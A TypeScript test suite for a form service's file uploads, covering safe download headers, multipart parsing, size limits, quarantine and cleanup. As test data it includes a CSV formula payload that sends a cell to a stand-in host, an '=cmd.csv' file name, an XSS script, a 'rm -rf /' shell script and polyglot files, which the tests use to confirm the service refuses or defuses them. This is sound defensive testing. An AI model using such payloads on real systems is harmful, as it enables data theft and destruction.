import { createHash } from "node:crypto";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { startTestApp } from "../support/app.ts";
import { PDF, PNG } from "../support/attachments.ts";
import { countFilesIn, listFiles, postFiles, readFile } from "../support/uploads.ts";
import { deleteWaitingBytes, keepHouse } from "../support/housekeeping.ts";

test("a submission is stored with its files, and an owner downloads the same bytes, never as a page", async () => {
  const { app, owner, form } = await setup();

  const { status, body } = await postFiles(app, form, [
    ["cv", "../mi cv.pdf", PDF],
    ["foto", "foto", PNG],
  ]);

  const [cv, photo] = await listFiles(app, owner);
  const download = await fetch(`${app.url}/api/v1/submissions/files/${cv?.id}`, {
    headers: { authorization: `Bearer ${owner.key}` },
  });
  const bytes = Buffer.from(await download.arrayBuffer());
  expect(status).toBe(201);
  expect([cv, photo]).toMatchObject([
    { submissionId: body["submission_id"], field: "cv", name: "mi cv.pdf", mediaType: "application/pdf" },
    { submissionId: body["submission_id"], field: "foto", name: "foto.png", mediaType: "image/png" },
  ]);
  expect(bytes).toEqual(PDF);
  expect(cv).toMatchObject({ sizeBytes: PDF.length, sha256: createHash("sha256").update(PDF).digest("hex") });
  expect(Object.fromEntries(download.headers)).toMatchObject({
    "content-disposition": 'attachment; filename="mi cv.pdf"',
    "content-type": "application/pdf",
    "x-content-type-options": "nosniff",
    "content-security-policy": expect.stringContaining("sandbox"),
  });
});

test("C17 a visitor's CSV comes back byte by byte, as a download that no browser shows, and an export of ours has its name as text", async () => {
  const { app, owner, form } = await setup();
  const formula = Buffer.from('nombre,nota\r\n"=HYPERLINK(""https://malo.example/?""&A1,""ver"")",1\r\n');
  await postFiles(app, form, [["lista", "=cmd.csv", formula]]);

  const [file] = await listFiles(app, owner);
  const headers = { authorization: `Bearer ${owner.key}` };
  const download = await fetch(`${app.url}/api/v1/submissions/files/${file?.id}`, { headers });
  const table = await (await fetch(`${app.url}/api/v1/submissions.csv`, { headers })).text();

  expect(Buffer.from(await download.arrayBuffer())).toEqual(formula);
  expect(Object.fromEntries(download.headers)).toMatchObject({
    "content-disposition": 'attachment; filename="=cmd.csv"',
    "content-type": expect.stringMatching(/^text\/csv/),
    "x-content-type-options": "nosniff",
    "content-security-policy": expect.stringMatching(/; sandbox(?:;|$)/),
  });
  expect(table).toContain("'=cmd.csv");
});

test("the fields beside files keep their order, their repetitions and their letters", async () => {
  const { app, owner, form } = await setup();
  const body = Buffer.from(
    [
      '--x\r\nContent-Disposition: form-data; name="a\xf1o"\r\n\r\nLim\xf3n\r\n',
      '--x\r\nContent-Disposition: form-data; name="color"\r\n\r\nrojo\r\n',
      '--x\r\nContent-Disposition: form-data; name="nota"; filename="nota.txt"\r\nContent-Type: text/plain\r\n\r\nhola\r\n',
      '--x\r\nContent-Disposition: form-data; name="color"\r\n\r\nverde\r\n',
      '--x\r\nContent-Disposition: form-data; name="vacio"\r\n\r\n\r\n',
      '--x\r\nContent-Disposition: form-data; name="otra"; filename=""\r\n\r\n\r\n--x--\r\n',
    ].join(""),
    "latin1",
  );

  const response = await fetch(`${app.url}/f/${form.token}`, {
    method: "POST",
    headers: { accept: "application/json", "content-type": "multipart/form-data; boundary=x" },
    body,
  });

  const { submission_id: id } = (await response.json()) as { submission_id: string };
  const submission = await app.services.submissions.find(owner.actor, id);
  expect(JSON.stringify(submission?.data)).toBe('{"año":"Limón","color":["rojo","verde"],"vacio":""}');
  expect(await listFiles(app, owner)).toMatchObject([{ field: "nota", name: "nota.txt", mediaType: "text/plain" }]);
});

test("a form that takes no files refuses them as before", async () => {
  const { app, owner } = await setup();
  const form = await app.createForm(owner);

  const { status, body } = await postFiles(app, form, [["cv", "cv.pdf", PDF]]);

  expect([status, body]).toMatchObject([400, { code: "VALIDATION_FAILED", fields: [{ field: "cv" }] }]);
});

test("what a browser or a desktop runs, and what is two things at once, is refused with its field", async () => {
  const { app, form, countStored } = await setup();
  const refused: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
    ["HTML", "pagina.txt", Buffer.from("  <html><script>alert(1)</script>")],
    ["HTML by its name", "nota.html", Buffer.from("hola")],
    ["SVG", "dibujo.txt", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"></svg>')],
    ["a script", "instalar.txt", Buffer.from("#!/bin/sh\nrm -rf /\n")],
    ["a program", "programa.bin", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)])],
    ["a picture that is an archive, too", "foto.png", Buffer.concat([PNG, endOfArchive()])],
    ["an archive with something behind it", "todo.zip", Buffer.concat([archive(), Buffer.from("<script>")])],
    ["a PDF behind something else", "cv.pdf", Buffer.concat([Buffer.from("x\n"), PDF])],
    ["bytes of no known type", "datos.bin", Buffer.from([0, 1, 2, 3, 4, 5, 6, 7])],
    ["no bytes", "vacio.pdf", Buffer.alloc(0)],
  ];

  for (const [what, name, bytes] of refused) {
    const { status, body } = await postFiles(app, form, [["cv", name, Uint8Array.from(bytes)]]);
    expect([status, body], what).toMatchObject([400, { code: "VALIDATION_FAILED", fields: [{ field: "cv" }] }]);
  }

  expect(await countStored()).toEqual({ submissions: 0, unkept: 0, temporary: 0, files: 0 });
});

test("an archive that is nothing else is taken", async () => {
  const { app, owner, form } = await setup();

  await postFiles(app, form, [["todo", "todo.zip", Uint8Array.from(archive())]]);

  expect(await listFiles(app, owner)).toMatchObject([{ name: "todo.zip", mediaType: "application/zip" }]);
});

test("files past the plan's number or size are refused, and nothing is stored", async () => {
  const { app, form, countStored } = await setup();
  const large = Buffer.alloc(10 * 1024 * 1024 + 1, "a");

  const many = await postFiles(
    app,
    form,
    Array.from({ length: 4 }, (_, n) => ["f", `${n}.pdf`, PDF] as const),
  );
  const tooLarge = await postFiles(app, form, [["f", "a.txt", large]]);
  const whole = await postFiles(
    app,
    form,
    [10, 10, 5.5].map((megabytes, n) => ["f", `${n}.txt`, large.subarray(0, megabytes * 1024 * 1024)] as const),
  );

  expect([many, tooLarge, whole]).toMatchObject([
    { status: 400, body: { fields: [{ message: "Puedes enviar hasta 3 archivos." }] } },
    { status: 400, body: { fields: [{ message: "El archivo pesa demasiado: el máximo es 10 MB." }] } },
    { status: 400, body: { fields: [{ message: "Los archivos juntos pesan demasiado: el máximo es 25 MB." }] } },
  ]);
  expect(await countStored()).toEqual({ submissions: 0, unkept: 0, temporary: 0, files: 0 });
});

test("what is held as spam keeps its files, through its release, until its deletion", async () => {
  const { app, owner, form, countStored } = await setup();
  const { body } = await postFiles(app, form, [["cv", "cv.pdf", PDF]], { nombre: "Ana", _gotcha: "x" });
  const id = String(body["submission_id"]);
  const [held] = await listFiles(app, owner);
  const { spamQuarantine, submissions } = app.services;

  await spamQuarantine.release(owner.actor, id);
  await spamQuarantine.mark(owner.actor, id);
  await spamQuarantine.release(owner.actor, id);
  const bytes = await readFile(app, owner, held?.id ?? "");
  await submissions.delete(owner.actor, id);
  await deleteWaitingBytes(app);

  expect(bytes).toEqual(PDF);
  expect(await listFiles(app, owner)).toEqual([]);
  expect(await countStored()).toEqual({ submissions: 0, unkept: 0, temporary: 0, files: 0 });
});

test("a request that is refused after its files were put leaves none of them", async () => {
  const { app, form, countStored } = await setup();
  const post = () => postFiles(app, form, [["cv", "cv.pdf", PDF]], { nombre: "Ana", _idempotency_key: "clave-1" });
  await post();
  const first = await countStored();

  const repeated = await post();
  const other = await postFiles(app, form, [["cv", "cv.png", PNG]], { nombre: "Ana", _idempotency_key: "clave-1" });
  await keepHouse(app, "files");

  expect(repeated.status).toBe(200);
  expect([other.status, other.body["code"]]).toEqual([409, "IDEMPOTENCY_KEY_REUSED"]);
  expect(await countStored()).toEqual(first);
});

test("a sender who leaves in the middle of a file leaves nothing", async () => {
  const { app, form, countStored } = await setup();
  const leaving = new AbortController();
  const head = '--x\r\nContent-Disposition: form-data; name="cv"; filename="cv.pdf"\r\n\r\n%PDF-1.4';
  const body = new ReadableStream({
    start: (sending) => sending.enqueue(Buffer.from(head)),
    pull: () => new Promise(() => undefined),
  });
  const posting = fetch(`${app.url}/f/${form.token}`, {
    method: "POST",
    headers: { "content-type": "multipart/form-data; boundary=x" },
    body,
    duplex: "half",
    signal: leaving.signal,
  }).catch(() => "left");

  await expect.poll(async () => (await countStored()).temporary).toBe(1);
  leaving.abort();

  expect(await posting).toBe("left");
  await expect.poll(countStored).toEqual({ submissions: 0, unkept: 0, temporary: 0, files: 0 });
});

test("a body of as many parts as there may be is stored whole and in order, though it is read in pieces", async () => {
  const { app, owner, form } = await setup();
  const fields = Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`campo_${n}`, `valor ${n}`]));

  const { status, body } = await postFiles(app, form, [["cv", "cv.pdf", PDF]], fields);

  expect([status, body]).toMatchObject([201, { success: true }]);
  const stored = await app.services.submissions.find(owner.actor, String(body["submission_id"]));
  expect(Object.entries(stored?.data ?? {})).toEqual(Object.entries(fields));
  const [cv] = await listFiles(app, owner);
  expect(await readFile(app, owner, cv?.id ?? "")).toEqual(PDF);
});

async function setup() {
  const app = await startTestApp({ environment: { WORKER: "off" } });
  const owner = await app.createOwner();
  const form = await app.createForm(owner, { filesAllowed: true });

  async function countStored() {
    const count = async (table: string) => (await app.database(table)).length;
    return {
      submissions: (await count("submissions")) + (await count("quarantined_submissions")),
      unkept: await count("unkept_files"),
      temporary: (await readdir(join(app.dataDir, "uploads")).catch(() => [])).length,
      files: await countFilesIn(join(app.dataDir, "files")),
    };
  }
  return { app, owner, form, countStored };
}

/** An empty archive's only record. */
function endOfArchive(): Buffer {
  const end = Buffer.alloc(22);
  end.write("PK\u0005\u0006", "latin1");
  return end;
}

/** An archive with one empty entry. */
function archive(): Buffer {
  const local = Buffer.alloc(31);
  local.write("PK\u0003\u0004", "latin1");
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(1, 26);
  local.write("a", 30);
  return Buffer.concat([local, endOfArchive()]);
}
